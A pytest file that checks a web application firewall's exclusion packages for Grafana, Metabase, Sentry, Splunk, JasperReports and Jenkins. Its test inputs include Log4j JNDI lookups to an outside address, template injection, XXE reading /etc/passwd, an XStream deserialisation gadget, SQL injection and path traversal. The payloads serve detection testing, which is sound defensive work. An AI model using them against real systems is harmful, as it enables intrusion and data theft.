"""hostguard's own exclusion packages (data/waf/exclusions/), through the real engine with CRS 3.3.4: for each
application, real requests of it to the endpoints its package names are refused without the package and pass
with it; the same payload on another path of the application (a sibling, a path climbing out with ".." or
"%2e%2e"), in another argument where the package names arguments, and an attack of a family the package does
not exclude, on the very endpoint it does, are still refused, by the rules the package would have switched
off where it applies. phpMyAdmin's package is tested in test_own_rules.py."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import quote
from xml.sax.saxutils import escape

import pytest

import hostguard
from hostguard.waf.engine import Engine, Request, Verdict
from hostguard.waf.ruleset import OWN_PACKAGES, WafSettings, assemble
from tests.waf.test_engine import _need_library

UA = ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0")
EXCLUSIONS = Path(hostguard.__file__).parent / "data" / "waf" / "exclusions"
SQLI = {942100, 942270, 20401}   # libinjection, UNION ... SELECT, hostguard's SQL shapes: what the SQL below trips
SHELL = {932105, 932110, 932130, 932150, 932160}   # CRS's shell rules (tag language-shell)



@pytest.fixture(scope="module")
def tuned() -> Iterator[Callable[[str], Engine]]:
    """The same ruleset with one application's package, each built once for the module."""
    _need_library()
    built: dict[str, Engine] = {}

    def engine(app: str) -> Engine:
        if app not in built:
            built[app] = Engine(text=assemble(WafSettings(applications=(app,))))
        return built[app]

    yield engine
    for e in built.values():
        e.close()


def _send(method: str, target: str, host: str, content_type: str | None = None, body: str | bytes = b"",
          extra: tuple[tuple[str, str], ...] = ()) -> Request:
    data = body.encode() if isinstance(body, str) else body
    headers = [("Host", host), UA, *extra]
    if content_type is not None:
        headers += [("Content-Type", content_type), ("Content-Length", str(len(data)))]
    return Request(method, target, headers, data)


def _refused(verdict: Verdict, *, by: set[int]) -> bool:
    """Refused, and among the rules that refused it one of ``by`` (the rules a package switches off where it
    applies: a near-miss refused only by a path-traversal rule would say nothing about the package)."""
    return verdict.disruptive and bool(by & set(verdict.rule_ids))


# ---------------------------------------------------------------------------------------------------- Grafana

GRAFANA = "grafana.example.test"
RAW_SQL = ("SELECT $__timeGroup(created_at,'5m') AS time, count(*) AS orders FROM orders "
           "WHERE $__timeFilter(created_at) AND status <> 'cancelled' "
           "UNION ALL SELECT $__timeGroup(created_at,'5m'), count(*) FROM refunds WHERE $__timeFilter(created_at) "
           "GROUP BY 1 ORDER BY 1")
PANEL = {"id": 1, "type": "timeseries", "title": "Orders per 5 minutes",
         "datasource": {"type": "grafana-postgresql-datasource", "uid": "PG1"},
         "targets": [{"refId": "A", "format": "time_series", "rawQuery": True, "editorMode": "code", "rawSql": RAW_SQL}],
         "gridPos": {"h": 8, "w": 12, "x": 0, "y": 0}}


def _dashboard(title: str = "Orders") -> str:
    return json.dumps({"dashboard": {"id": None, "uid": None, "title": title, "tags": ["sales"], "timezone": "browser",
                                     "schemaVersion": 39, "panels": [PANEL]},
                       "folderUid": "sales", "message": "orders and refunds", "overwrite": False})


GRAFANA_HITS = [
    ("POST", "/api/dashboards/db", _dashboard()),
    ("POST", "/grafana/api/dashboards/db", _dashboard()),   # served under a sub-path
    ("POST", "/api/dashboards/import", json.dumps({**json.loads(_dashboard()), "inputs": [], "overwrite": True})),
    ("POST", "/api/ds/query", json.dumps({"queries": [{"refId": "A", "datasource": {"uid": "PG1"}, "rawSql": RAW_SQL,
                                                       "format": "table", "maxDataPoints": 1200}],
                                          "from": "now-6h", "to": "now"})),
    ("POST", "/api/library-elements", json.dumps({"folderUid": "sales", "name": "Orders", "model": PANEL, "kind": 1})),
    ("PATCH", "/api/library-elements/c3f1a9e2", json.dumps({"name": "Orders", "model": PANEL, "kind": 1, "version": 1})),
]


@pytest.mark.parametrize(("method", "target", "body"), GRAFANA_HITS, ids=[t for _, t, _ in GRAFANA_HITS])
def test_grafana_panels_with_raw_sql_pass_only_with_the_package(waf: Engine, tuned: Callable[[str], Engine],
                                                                method: str, target: str, body: str) -> None:
    request = _send(method, target, GRAFANA, "application/json", body)
    without = waf.inspect(request)
    assert _refused(without, by={933180}) and SQLI & set(without.rule_ids), without.rule_ids
    with_package = tuned("grafana").inspect(request)
    assert not with_package.disruptive, with_package.rule_ids


@pytest.mark.parametrize("target", [
    "/api/dashboards/db/../../admin/users", "/api/dashboards/db/%2e%2e/%2e%2e/admin/users",
    "/api/dashboards/db/", "/api/annotations", "/api/playlists", "/api/datasources/proxy/1/query",
    "/api/library-elements/c3f1a9e2/../../admin",
])
def test_grafana_the_same_dashboard_elsewhere_is_still_refused(tuned: Callable[[str], Engine], target: str) -> None:
    verdict = tuned("grafana").inspect(_send("POST", target, GRAFANA, "application/json", _dashboard()))
    assert _refused(verdict, by={933180} | SQLI), verdict.rule_ids


def test_grafana_script_in_a_dashboard_title_is_still_refused(tuned: Callable[[str], Engine]) -> None:
    request = _send("POST", "/api/dashboards/db", GRAFANA, "application/json", _dashboard("<script>alert(1)</script>"))
    verdict = tuned("grafana").inspect(request)
    assert _refused(verdict, by={941100}), verdict.rule_ids
    assert not ({933180} | SQLI) & set(verdict.rule_ids), verdict.rule_ids   # the package applied: only XSS


# --------------------------------------------------------------------------------------------------- Metabase

METABASE = "metabase.example.test"
BI_SQL = ("SELECT p.category, count(*) AS orders, sum(o.total) AS revenue FROM orders o "
          "JOIN products p ON p.id = o.product_id WHERE o.created_at >= '2024-01-01' AND o.status <> 'cancelled' "
          "GROUP BY p.category UNION ALL SELECT 'all', count(*), sum(total) FROM orders ORDER BY 3 DESC")


def _card(sql: str = BI_SQL, **fields: object) -> str:
    return json.dumps({"name": "Revenue by category", "display": "table", "visualization_settings": {},
                       "collection_id": 7, "description": None,
                       "dataset_query": {"type": "native", "database": 2, "native": {"query": sql, "template-tags": {}}},
                       **fields})


def _adhoc(sql: str = BI_SQL) -> str:
    return json.dumps({"database": 2, "type": "native", "native": {"query": sql, "template-tags": {}}, "parameters": []})


def _snippet(content: str = BI_SQL, name: str = "revenue by category") -> str:
    return json.dumps({"name": name, "description": "paid orders only", "content": content, "collection_id": None})


METABASE_HITS = [
    ("POST", "/api/card", _card()),
    ("PUT", "/api/card/12", _card()),
    ("POST", "/api/dataset", _adhoc()),
    ("POST", "/api/dataset/native", _adhoc()),
    ("POST", "/api/native-query-snippet", _snippet()),
    ("PUT", "/api/native-query-snippet/3", _snippet()),
]


@pytest.mark.parametrize(("method", "target", "body"), METABASE_HITS, ids=[f"{m} {t}" for m, t, _ in METABASE_HITS])
def test_metabase_native_questions_pass_only_with_the_package(waf: Engine, tuned: Callable[[str], Engine],
                                                              method: str, target: str, body: str) -> None:
    request = _send(method, target, METABASE, "application/json", body)
    without = waf.inspect(request)
    assert _refused(without, by=SQLI), without.rule_ids
    with_package = tuned("metabase").inspect(request)
    assert not with_package.disruptive, with_package.rule_ids


@pytest.mark.parametrize(("target", "body"), [
    ("/api/card/12/query", _card()),                       # another endpoint of a card
    ("/api/dashboard", _card()),
    ("/api/card/12/../../user", _card()),
    ("/api/card/12/%2e%2e/%2e%2e/user", _card()),
    ("/api/dataset", _card()),                             # a card's field name on the ad-hoc endpoint
    ("/api/card", _adhoc()),                               # and the other way round
    ("/api/card", _card("SELECT 1", description=BI_SQL)),  # another argument of the same endpoint
    ("/api/card", _card("SELECT 1", name=BI_SQL)),
    ("/api/dataset", json.dumps({**json.loads(_adhoc("SELECT 1")), "parameters": [{"value": BI_SQL}]})),
    ("/api/native-query-snippet", _snippet("status = 'paid'", name=BI_SQL)),
], ids=["card-query", "dashboard", "dotdot", "dotdot-encoded", "card-on-dataset", "dataset-on-card", "card-description",
        "card-name", "dataset-parameter", "snippet-name"])
def test_metabase_sql_elsewhere_is_still_refused(tuned: Callable[[str], Engine], target: str, body: str) -> None:
    verdict = tuned("metabase").inspect(_send("POST", target, METABASE, "application/json", body))
    assert _refused(verdict, by=SQLI), verdict.rule_ids


def test_metabase_script_in_the_native_query_is_still_refused(tuned: Callable[[str], Engine]) -> None:
    request = _send("POST", "/api/card", METABASE, "application/json", _card(BI_SQL + " -- <script>alert(1)</script>"))
    verdict = tuned("metabase").inspect(request)
    assert _refused(verdict, by={941100}), verdict.rule_ids
    assert not SQLI & set(verdict.rule_ids), verdict.rule_ids


# ----------------------------------------------------------------------------------------------------- Sentry

SENTRY = "sentry.example.test"
SENTRY_AUTH = (("X-Sentry-Auth", "Sentry sentry_version=7, sentry_client=sentry.java/7.8.0, "
                                 "sentry_key=0123456789abcdef0123456789abcdef"),)


def _java_event(**extra: str) -> str:
    return json.dumps({
        "event_id": "fc6d8c0c43fc4630ad850ee518f1b9d0", "timestamp": "2024-05-02T10:15:30Z", "platform": "java",
        "level": "error", "logger": "com.example.billing.ExportJob", "server_name": "app-1.example.test",
        "release": "billing@2.4.1", "environment": "production",
        "exception": {"values": [
            {"type": "org.postgresql.util.PSQLException", "module": "org.postgresql.util",
             "value": "ERROR: syntax error at or near \"WHERE\"\n  Position: 58 in SELECT id, name FROM customers "
                      "WHERE status = 'active' AND WHERE region = 'EU' UNION SELECT id, name FROM archived_customers",
             "stacktrace": {"frames": [
                 {"module": "java.lang.ProcessBuilder", "function": "start", "filename": "ProcessBuilder.java",
                  "lineno": 1143, "in_app": False},
                 {"module": "java.lang.Runtime", "function": "exec", "filename": "Runtime.java", "lineno": 315,
                  "in_app": False},
                 {"module": "com.example.billing.ExportJob", "function": "runPgDump", "filename": "ExportJob.java",
                  "lineno": 88, "in_app": True,
                  "vars": {"command": "/usr/bin/pg_dump --dbname=billing --file=/var/backups/billing.sql"}}]}}]},
        "extra": {"cwd": "/opt/billing", "config": "/etc/billing/application.properties", **extra}})


PYTHON_EVENT = json.dumps({
    "event_id": "0b1c2d3e4f5a46b7a8b9c0d1e2f3a4b5", "platform": "python", "level": "error",
    "exception": {"values": [{
        "type": "CalledProcessError",
        "value": "Command '['/bin/sh', '-c', 'tar czf /var/backups/site.tgz /srv/www && rm -rf /tmp/export-*; "
                 "cat /etc/hostname | wc -l']' returned non-zero exit status 2.",
        "stacktrace": {"frames": [{"filename": "/usr/lib/python3.11/subprocess.py", "function": "check_call",
                                   "lineno": 413, "context_line": "        raise CalledProcessError(retcode, cmd)"}]}}]},
    "breadcrumbs": {"values": [
        {"category": "subprocess", "message": "/usr/bin/wkhtmltopdf --quiet /tmp/invoice.html /tmp/invoice.pdf; echo $?"},
        {"category": "query", "message": "SELECT id FROM invoices WHERE paid = false OR due < now() UNION SELECT 1"}]},
    "request": {"url": "https://shop.example.test/admin/export?file=../../etc/passwd", "method": "POST"}})


def _envelope(event: str) -> str:
    header = {"event_id": "fc6d8c0c43fc4630ad850ee518f1b9d0", "sent_at": "2024-05-02T10:15:31Z",
              "dsn": "https://0123456789abcdef0123456789abcdef@sentry.example.test/42"}
    return f"{json.dumps(header)}\n{json.dumps({'type': 'event', 'length': len(event)})}\n{event}\n"


SENTRY_HITS = [
    ("/api/42/store/", "application/json", _java_event()),
    ("/api/42/store/", "application/json", PYTHON_EVENT),
    ("/api/42/envelope/", "application/x-sentry-envelope", _envelope(_java_event())),
    ("/api/42/envelope/", "text/plain;charset=UTF-8", _envelope(PYTHON_EVENT)),   # the browser SDK's type
]


@pytest.mark.parametrize(("target", "content_type", "body"), SENTRY_HITS,
                         ids=["store-java", "store-python", "envelope-java", "envelope-python"])
def test_sentry_error_events_pass_only_with_the_package(waf: Engine, tuned: Callable[[str], Engine], target: str,
                                                        content_type: str, body: str) -> None:
    request = _send("POST", target, SENTRY, content_type, body, SENTRY_AUTH)
    without = waf.inspect(request)
    assert without.disruptive, without.rule_ids
    with_package = tuned("sentry").inspect(request)
    assert not with_package.disruptive, with_package.rule_ids


@pytest.mark.parametrize("target", [
    "/api/42/store", "/api/0/projects/acme/billing/", "/api/42/store/../../0/projects/",
    "/api/42/%2e%2e/store/", "/api/42/store/%2e%2e/%2e%2e/0/projects/", "/api/acme/store/",
])
def test_sentry_the_same_event_elsewhere_is_still_refused(tuned: Callable[[str], Engine], target: str) -> None:
    verdict = tuned("sentry").inspect(_send("POST", target, SENTRY, "application/json", _java_event(), SENTRY_AUTH))
    assert _refused(verdict, by={944100, 944110}), verdict.rule_ids


def test_sentry_the_envelope_type_is_allowed_only_on_its_endpoints(tuned: Callable[[str], Engine]) -> None:
    request = _send("POST", "/api/42/attachment/", SENTRY, "application/x-sentry-envelope", _envelope('{"level":"info"}'))
    verdict = tuned("sentry").inspect(request)
    assert _refused(verdict, by={920420}), verdict.rule_ids


@pytest.mark.parametrize(("field", "value", "rule"), [
    ("user_agent", "${jndi:ldap://198.51.100.7/a}", 20701),                                    # Log4j lookup
    ("title", "<script>alert(1)</script>", 941100),                                             # XSS
    ("template", "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}", 20201),  # template
], ids=["log4j", "xss", "template"])
def test_sentry_attacks_the_package_does_not_exclude_are_still_refused(tuned: Callable[[str], Engine], field: str,
                                                                       value: str, rule: int) -> None:
    request = _send("POST", "/api/42/store/", SENTRY, "application/json", _java_event(**{field: value}), SENTRY_AUTH)
    verdict = tuned("sentry").inspect(request)
    assert _refused(verdict, by={rule}), verdict.rule_ids
    assert not {944100, 944110} & set(verdict.rule_ids), verdict.rule_ids   # the package applied


# ----------------------------------------------------------------------------------------------------- Splunk

SPLUNK = "splunk.example.test"
SPL = [
    "index=web sourcetype=access_combined status>=500 | stats count by uri_path | sort -count | head 20",
    'index=web sourcetype=access_combined status>=500 earliest=-24h | eval slow=if(duration>2, "yes", "no") '
    "| stats count by host, slow | where count > 10 | sort -count",
    'search index=os sourcetype=ps COMMAND="/bin/bash" OR COMMAND="nc" | table _time host user COMMAND | sort - _time',
    'index=db sourcetype=mysql:query query="SELECT * FROM users WHERE id = 1 OR 1=1" | stats count by user, host',
]
SPLUNK_TRIPS = SHELL | SQLI


def _query(path: str, **args: str) -> str:
    return f"{path}?{'&'.join(f'{k}={quote(v)}' for k, v in args.items())}"


def _form(**args: str) -> str:
    return "&".join(f"{k}={quote(v)}" for k, v in args.items())


@pytest.mark.parametrize("spl", SPL, ids=["stats", "eval", "commands", "sql-in-a-field"])
def test_splunk_a_search_in_splunk_web_passes_only_with_the_package(waf: Engine, tuned: Callable[[str], Engine],
                                                                    spl: str) -> None:
    request = _send("GET", _query("/en-US/app/search/search", q=spl, earliest="-24h@h", latest="now"), SPLUNK)
    without = waf.inspect(request)
    assert _refused(without, by=SPLUNK_TRIPS), without.rule_ids
    with_package = tuned("splunk").inspect(request)
    assert not with_package.disruptive, with_package.rule_ids


@pytest.mark.parametrize(("method", "target", "body"), [
    ("POST", "/services/search/jobs", _form(search="search " + SPL[1], exec_mode="normal", output_mode="json")),
    ("POST", "/servicesNS/admin/search/search/jobs", _form(search="search " + SPL[2], output_mode="json")),
    ("POST", "/en-US/splunkd/__raw/servicesNS/nobody/search/search/v2/jobs", _form(search="search " + SPL[0])),
    ("POST", "/services/search/jobs/export", _form(search="search " + SPL[3], output_mode="csv")),
    ("GET", _query("/services/search/parser", q="search " + SPL[1]), ""),
], ids=["jobs", "jobs-namespace", "jobs-through-splunk-web", "export", "parser"])
def test_splunk_a_search_job_passes_only_with_the_package(waf: Engine, tuned: Callable[[str], Engine], method: str,
                                                          target: str, body: str) -> None:
    request = _send(method, target, SPLUNK, "application/x-www-form-urlencoded" if body else None, body)
    without = waf.inspect(request)
    assert _refused(without, by=SPLUNK_TRIPS), without.rule_ids
    with_package = tuned("splunk").inspect(request)
    assert not with_package.disruptive, with_package.rule_ids


@pytest.mark.parametrize("target", [
    _query("/en-US/app/search/search", q="index=web", earliest=SPL[1]),          # another argument of the page
    _query("/en-US/app/search/search", search=SPL[1]),                            # the jobs' argument, on the page
    _query("/en-US/account/login", q=SPL[1]),                                     # other pages
    _query("/en-US/app/search/report", q=SPL[1]),
    _query("/en-US/app/search/search/../../../account/login", q=SPL[1]),
    _query("/en-US/app/search/%2e%2e/%2e%2e/%2e%2e/account/login", q=SPL[1]),
    _query("/en-US/app/../search/search", q=SPL[1]),
])
def test_splunk_a_search_elsewhere_in_splunk_web_is_still_refused(tuned: Callable[[str], Engine], target: str) -> None:
    verdict = tuned("splunk").inspect(_send("GET", target, SPLUNK))
    assert _refused(verdict, by=SPLUNK_TRIPS), verdict.rule_ids


@pytest.mark.parametrize(("target", "body"), [
    ("/services/search/jobs", _form(search="search index=web", earliest_time=SPL[1])),   # another argument
    ("/services/search/jobs", _form(search="search index=web", custom=SPL[3])),
    ("/services/search/jobs/../../../services/apps/local", _form(search=SPL[1])),
    ("/services/search/jobs/%2e%2e/%2e%2e/%2e%2e/services/apps/local", _form(search=SPL[1])),
    ("/services/apps/local", _form(search=SPL[1])),
    ("/servicesNS/admin/search/search/jobs/1714640000.42/control", _form(search=SPL[1])),
], ids=["earliest-time", "other-field", "dotdot", "dotdot-encoded", "apps", "job-control"])
def test_splunk_a_search_elsewhere_in_splunkd_is_still_refused(tuned: Callable[[str], Engine], target: str,
                                                               body: str) -> None:
    verdict = tuned("splunk").inspect(_send("POST", target, SPLUNK, "application/x-www-form-urlencoded", body))
    assert _refused(verdict, by=SPLUNK_TRIPS), verdict.rule_ids


def test_splunk_script_in_a_search_is_still_refused(tuned: Callable[[str], Engine]) -> None:
    verdict = tuned("splunk").inspect(_send("GET", _query("/en-US/app/search/search",
                                                          q='index=web "<script>alert(1)</script>" | stats count'), SPLUNK))
    assert _refused(verdict, by={941100}), verdict.rule_ids


# ------------------------------------------------------------------------------------- JasperReports Server

JASPER = "reports.example.test"
JASPER_AUTH = (("Authorization", "Basic amFzcGVyYWRtaW46amFzcGVyYWRtaW4="),)
REPORT_SQL = ("SELECT c.name, sum(o.total) AS revenue FROM orders o JOIN customers c ON c.id = o.customer_id "
              "WHERE o.created_at >= $P{FROM_DATE} AND o.status <> 'cancelled' GROUP BY c.name "
              "UNION ALL SELECT 'total', sum(total) FROM orders ORDER BY 2 DESC")


def _jrxml(field_extra: str = "", parameter_extra: str = "") -> str:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<jasperReport xmlns="http://jasperreports.sourceforge.net/jasperreports" name="revenue" pageWidth="595"
    pageHeight="842" columnWidth="555" leftMargin="20" rightMargin="20" topMargin="20" bottomMargin="20">
  <parameter name="FROM_DATE" class="java.sql.Timestamp"/>{parameter_extra}
  <queryString language="SQL"><![CDATA[{REPORT_SQL}]]></queryString>
  <field name="name" class="java.lang.String">{field_extra}</field>
  <field name="revenue" class="java.math.BigDecimal"/>
</jasperReport>"""


JASPER_QUERY_XML = f"<query><label>Revenue</label><language>sql</language><value><![CDATA[{REPORT_SQL}]]></value></query>"
JASPER_QUERY_JSON = json.dumps({"label": "Revenue", "uri": "/queries/revenue", "language": "sql", "value": REPORT_SQL})
JASPER_HITS = [
    ("PUT", "/jasperserver/rest_v2/resources/reports/x", "application/xml", _jrxml()),
    ("PUT", "/jasperserver/rest_v2/resources/reports/revenue_2024.jrxml", "text/xml", _jrxml()),
    ("PUT", "/jasperserver-pro/rest_v2/resources/queries/revenue", "application/repository.query+xml", JASPER_QUERY_XML),
    ("POST", "/jasperserver/rest_v2/resources/queries", "application/repository.query+json", JASPER_QUERY_JSON),
]


@pytest.mark.parametrize(("method", "target", "content_type", "body"), JASPER_HITS,
                         ids=["jrxml", "jrxml-text-xml", "query-xml-pro", "query-json"])
def test_jasperserver_report_definitions_pass_only_with_the_package(waf: Engine, tuned: Callable[[str], Engine],
                                                                    method: str, target: str, content_type: str,
                                                                    body: str) -> None:
    request = _send(method, target, JASPER, content_type, body, JASPER_AUTH)
    without = waf.inspect(request)
    assert _refused(without, by=SQLI), without.rule_ids
    with_package = tuned("jasperserver").inspect(request)
    assert not with_package.disruptive, with_package.rule_ids


@pytest.mark.parametrize("target", [
    "/jasperserver/rest_v2/resources/../../j_spring_security_check",
    "/jasperserver/rest_v2/resources/%2e%2e/%2e%2e/j_spring_security_check",
    "/jasperserver/rest_v2/resources/reports/../../../j_spring_security_check",
    "/jasperserver/rest_v2/resources/reports/%2e%2e/%2E%2E/%2e%2e/j_spring_security_check",
    "/jasperserver/rest_v2/resources/reports/.%2e/x",
    "/jasperserver/rest_v2/resources/reports/x%2f..%2f..%2fusers",
    "/jasperserver/rest_v2/resources/reports/x;/../../users",
    "/jasperserver/rest_v2/users/joe",
    "/jasperserver/rest_v2/reports/reports/x.pdf",
    "/jasperserver/j_spring_security_check",
])
def test_jasperserver_the_same_definition_elsewhere_is_still_refused(tuned: Callable[[str], Engine], target: str) -> None:
    verdict = tuned("jasperserver").inspect(_send("PUT", target, JASPER, "application/xml", _jrxml(), JASPER_AUTH))
    assert _refused(verdict, by=SQLI), verdict.rule_ids


@pytest.mark.parametrize("target", ["/jasperserver/rest_v2/resources", "/jasperserver/rest_v2/resources/reports"])
def test_jasperserver_sql_in_a_repository_search_is_still_refused(tuned: Callable[[str], Engine], target: str) -> None:
    # the package applies to the methods that send a definition; a search's q is read as before
    request = _send("GET", _query(target, q="x' UNION SELECT username, password FROM jiuser--", type="reportUnit"),
                    JASPER, extra=JASPER_AUTH)
    verdict = tuned("jasperserver").inspect(request)
    assert _refused(verdict, by=SQLI), verdict.rule_ids


@pytest.mark.parametrize(("body", "rule"), [
    (_jrxml(field_extra="<fieldDescription><![CDATA[<script>alert(1)</script>]]></fieldDescription>"), 941100),
    (_jrxml(parameter_extra='\n  <parameter name="P" class="java.lang.String"><defaultValueExpression>'
                            '<![CDATA[Runtime.getRuntime().exec("id")]]></defaultValueExpression></parameter>'), 944110),
], ids=["xss", "java"])
def test_jasperserver_attacks_the_package_does_not_exclude_are_still_refused(tuned: Callable[[str], Engine], body: str,
                                                                             rule: int) -> None:
    request = _send("PUT", "/jasperserver/rest_v2/resources/reports/x", JASPER, "application/xml", body, JASPER_AUTH)
    verdict = tuned("jasperserver").inspect(request)
    assert _refused(verdict, by={rule}), verdict.rule_ids
    assert not SQLI & set(verdict.rule_ids), verdict.rule_ids


# ---------------------------------------------------------------------------------------------------- Jenkins

JENKINS = "ci.example.test"
JENKINS_AUTH = (("Authorization", "Basic YnVpbGQ6MTFhYmNkZWYwMTIzNDU2Nzg5"), ("Jenkins-Crumb", "4f1c2b9e0d"))
BUILD_STEP = """#!/bin/bash
set -euo pipefail
export PATH=/usr/local/bin:$PATH
rm -rf build/ && mkdir -p build
./gradlew clean test --no-daemon
tar czf build/site-$(date +%Y%m%d).tgz -C public .
curl -fsS -u "$DEPLOY_USER:$DEPLOY_TOKEN" -T build/site-*.tgz https://artifacts.example.test/upload/
cat build/reports/tests/summary.txt | grep -c FAILED || true
"""


def _job(description: str = "Nightly build and deploy", command: str = f"<![CDATA[{BUILD_STEP}]]>",
         doctype: str = "") -> str:
    return f"""<?xml version='1.1' encoding='UTF-8'?>{doctype}
<project>
  <description>{description}</description>
  <keepDependencies>false</keepDependencies>
  <scm class="hudson.plugins.git.GitSCM" plugin="git@5.2.1">
    <userRemoteConfigs><hudson.plugins.git.UserRemoteConfig><url>https://git.example.test/shop.git</url>
    </hudson.plugins.git.UserRemoteConfig></userRemoteConfigs>
  </scm>
  <triggers><hudson.triggers.TimerTrigger><spec>H 2 * * *</spec></hudson.triggers.TimerTrigger></triggers>
  <builders>
    <hudson.tasks.Shell>
      <command>{command}</command>
    </hudson.tasks.Shell>
  </builders>
  <publishers/>
  <buildWrappers/>
</project>"""


PIPELINE_SCRIPT = """pipeline {
  agent { label 'linux' }
  stages {
    stage('Test') { steps { sh './gradlew clean test --no-daemon' } }
    stage('Package') { steps { sh "tar czf site-${env.BUILD_NUMBER}.tgz -C public . && ls -la *.tgz" } }
    stage('Deploy') {
      steps {
        sh 'rsync -az --delete public/ deploy@www.example.test:/srv/www/'
        sh 'curl -fsS https://www.example.test/health | grep -q ok ; ls -la /srv/www | head'
      }
    }
  }
}"""
PIPELINE = f"""<?xml version='1.1' encoding='UTF-8'?>
<flow-definition plugin="workflow-job@1400.v7fd111b_ec82f">
  <description>Build, test and deploy</description>
  <definition class="org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition" plugin="workflow-cps@3894.vd0f0248b_a_fc4">
    <script>{escape(PIPELINE_SCRIPT, {"'": "&apos;", '"': "&quot;"})}</script>
    <sandbox>true</sandbox>
  </definition>
  <disabled>false</disabled>
</flow-definition>"""
ESCAPED_STEP = escape(BUILD_STEP, {'"': "&quot;"})
JENKINS_HITS = [
    ("/job/nightly/config.xml", "application/xml", _job()),
    ("/job/nightly/config.xml", "text/xml", _job(command=ESCAPED_STEP)),
    ("/jenkins/job/shop/job/nightly/config.xml", "application/xml", _job()),   # in a folder, under a sub-path
    ("/job/Nightly%20Build/config.xml", "application/xml", _job()),            # a name with a space
    ("/job/shop-v2.1/config.xml", "application/xml", _job()),
    ("/createItem?name=nightly", "application/xml", _job()),
    ("/view/All/createItem?name=nightly", "application/xml", _job()),
    ("/job/shop/createItem?name=nightly", "application/xml", _job()),
    ("/job/deploy/config.xml", "application/xml", PIPELINE),
]


@pytest.mark.parametrize(("target", "content_type", "body"), JENKINS_HITS,
                         ids=["config", "config-escaped", "folder", "space", "dots", "create", "view-create",
                              "folder-create", "pipeline"])
def test_jenkins_job_configurations_pass_only_with_the_package(waf: Engine, tuned: Callable[[str], Engine],
                                                               target: str, content_type: str, body: str) -> None:
    request = _send("POST", target, JENKINS, content_type, body, JENKINS_AUTH)
    without = waf.inspect(request)
    assert _refused(without, by=SHELL), without.rule_ids
    with_package = tuned("jenkins").inspect(request)
    assert not with_package.disruptive, with_package.rule_ids


@pytest.mark.parametrize("target", [
    "/script", "/scriptText", "/jenkins/script", "/jenkins/scriptText", "/job/nightly/build", "/job/nightly/",
    "/job/x/..%2f..%2fscript/config.xml", "/job/x/../../script/config.xml", "/job/x/%2e%2e/%2E%2E/scriptText/config.xml",
    "/job/%2e%2e/config.xml", "/job/.%2e/config.xml", "/job/x;/../../scriptText/config.xml",
    "/job/nightly/config.xml/../../../scriptText", "/job/nightly/config.xml;/../../scriptText",
    "/computer/agent-1/config.xml", "/manage/configureSecurity/config.xml",
])
def test_jenkins_the_same_configuration_elsewhere_is_still_refused(tuned: Callable[[str], Engine], target: str) -> None:
    verdict = tuned("jenkins").inspect(_send("POST", target, JENKINS, "application/xml", _job(), JENKINS_AUTH))
    assert _refused(verdict, by=SHELL), verdict.rule_ids


def test_jenkins_commands_for_the_script_console_are_still_refused(tuned: Callable[[str], Engine]) -> None:
    body = _form(script='def proc = "cat /etc/passwd".execute(); println proc.text')
    request = _send("POST", "/scriptText", JENKINS, "application/x-www-form-urlencoded", body, JENKINS_AUTH)
    verdict = tuned("jenkins").inspect(request)
    assert _refused(verdict, by=SHELL), verdict.rule_ids


XSTREAM_GADGET = """<?xml version='1.1' encoding='UTF-8'?>
<project>
  <description>nightly</description>
  <builders>
    <javax.imageio.ImageIO_-ContainsFilter>
      <method><class>java.lang.ProcessBuilder</class><name>start</name><parameter-types/></method>
      <name>start</name>
    </javax.imageio.ImageIO_-ContainsFilter>
  </builders>
</project>"""


@pytest.mark.parametrize(("body", "rule"), [
    (XSTREAM_GADGET, 944110),                                                       # XStream deserialisation
    (_job(description="${jndi:ldap://198.51.100.7/a}"), 20701),                     # Log4j lookup
    (_job(description="&lt;script&gt;alert(1)&lt;/script&gt;"), 941100),          # XSS
    (_job(description="x' UNION SELECT password FROM users--"), 942100),            # SQL injection
    (_job(doctype='\n<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), 20601),   # XXE
], ids=["xstream", "log4j", "xss", "sqli", "xxe"])
def test_jenkins_attacks_the_package_does_not_exclude_are_still_refused(tuned: Callable[[str], Engine], body: str,
                                                                        rule: int) -> None:
    verdict = tuned("jenkins").inspect(_send("POST", "/job/nightly/config.xml", JENKINS, "application/xml", body,
                                             JENKINS_AUTH))
    assert _refused(verdict, by={rule}), verdict.rule_ids
    assert not SHELL & set(verdict.rule_ids), verdict.rule_ids   # the package applied: only the other family


# ------------------------------------------------------------------------------------------- the package files

def test_own_packages_lists_exactly_the_package_files() -> None:
    files = sorted(p.stem for p in EXCLUSIONS.glob("*.conf"))
    assert list(OWN_PACKAGES) == files
    assert {"grafana", "jasperserver", "jenkins", "metabase", "phpmyadmin", "sentry", "splunk"} <= set(OWN_PACKAGES)


@pytest.mark.parametrize("name", OWN_PACKAGES)
def test_a_package_s_rule_ids_are_inside_its_stated_range(name: str) -> None:
    text = (EXCLUSIONS / f"{name}.conf").read_text(encoding="utf-8")
    stated = re.search(r"(?m)^#.*\bIds (\d+)-(\d+)\.", text)
    assert stated, f"{name}.conf states no id range in its header"
    low, high = int(stated[1]), int(stated[2])
    ids = [int(i) for i in re.findall(r"\bid:(\d+)", text)]
    assert ids, f"{name}.conf has no rule"
    assert all(low <= i <= high for i in ids), (name, (low, high), ids)
    assert len(ids) == len(set(ids)), ids


def test_package_id_ranges_do_not_overlap() -> None:
    ranges = []
    for name in OWN_PACKAGES:
        stated = re.search(r"\bIds (\d+)-(\d+)\.", (EXCLUSIONS / f"{name}.conf").read_text(encoding="utf-8"))
        assert stated, name
        ranges.append((int(stated[1]), int(stated[2]), name))
    ranges.sort()
    for (_, high, name), (low, _, following) in zip(ranges, ranges[1:], strict=False):
        assert high < low, (name, following)


@pytest.mark.parametrize("name", OWN_PACKAGES)
def test_a_package_loads_and_an_ordinary_request_passes(tuned: Callable[[str], Engine], name: str) -> None:
    text = assemble(WafSettings(applications=(name,)))
    assert f"exclusions/{name}.conf" in text and f"exclusions/{name}.conf" not in assemble(WafSettings())
    verdict = tuned(name).inspect(_send("GET", "/?page=2", "app.example.test", extra=(("Accept", "text/html"),)))
    assert not verdict.disruptive and verdict.status == 200, verdict.rule_ids
